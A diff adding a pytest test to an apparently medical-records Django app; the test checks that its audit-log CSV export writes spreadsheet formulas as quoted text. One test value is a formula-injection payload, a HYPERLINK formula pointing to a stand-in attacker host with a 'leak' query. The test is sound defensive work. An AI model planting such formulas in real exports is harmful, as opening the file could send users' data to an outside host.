@@ -162,3 +162,25 @@ def test_a_flushed_chain_head_restarts_from_the_newest_event(patient, frontdesk)
     )
     assert second.prev_hash == first.row_hash
     assert audit.verify_chain()[1] == []
+
+
+@pytest.mark.django_db
+def test_csv_formula_injection_a_formula_in_the_audit_export_is_text(client, admin, patient):
+    # The audit export carries user names and actions typed elsewhere: a cell that a spreadsheet
+    # would run as a formula is written as text.
+    from accounts.tests.factories import UserFactory
+
+    formula = '=HYPERLINK("http://evil.example/?leak","Open")'
+    audit.record(
+        actor=UserFactory(username=formula),
+        action="@SUM(1+1)",
+        verb="read",
+        category="demographics",
+        patient=patient,
+    )
+    client.force_login(admin)
+    export = client.get(reverse("accounts:audit-report"), {"patient": patient.mrn, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
+    row = next(r for r in rows[1:] if r[4] == "'@SUM(1+1)")
+    assert row[1] == "'" + formula
+    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "@", "-")]
